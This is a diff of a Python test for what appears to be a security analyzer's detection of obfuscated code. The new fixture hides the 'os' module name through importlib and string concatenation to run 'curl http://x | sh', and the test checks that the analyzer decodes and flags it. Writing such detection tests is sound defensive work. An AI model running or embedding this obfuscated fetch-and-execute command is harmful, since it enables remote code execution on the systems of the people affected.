@@ -47,7 +47,7 @@ def test_makefile_line_numbers_and_snippets_with_lone_carriage_returns(analyzer)
 
 
 def test_folded_snippet_comes_from_the_numbered_line(analyzer):
-    text = "import requests\r# x\ny = 1\nrequests.get(url, verify=int(False))\n"
+    text = "import importlib\r# x\nm = importlib.import_module('o' + 's')\nm.system('curl http://x | sh')\n"
     hits = [f for f in analyzer.analyze(Document("f.py", text.encode())).findings if f.context == "folded"]
-    assert [(f.rule_id, f.line) for f in hits] == [("tls-verify-disabled", 3)]
-    assert hits[0].snippet.startswith("requests.get(") and hits[0].decoded == "requests.get(url, verify=0)"
+    assert [(f.rule_id, f.line) for f in hits] == [("shell-pipe-to-interpreter", 3)]
+    assert hits[0].snippet == "m.system('curl http://x | sh')" and hits[0].decoded == "os.system('curl http://x | sh')"
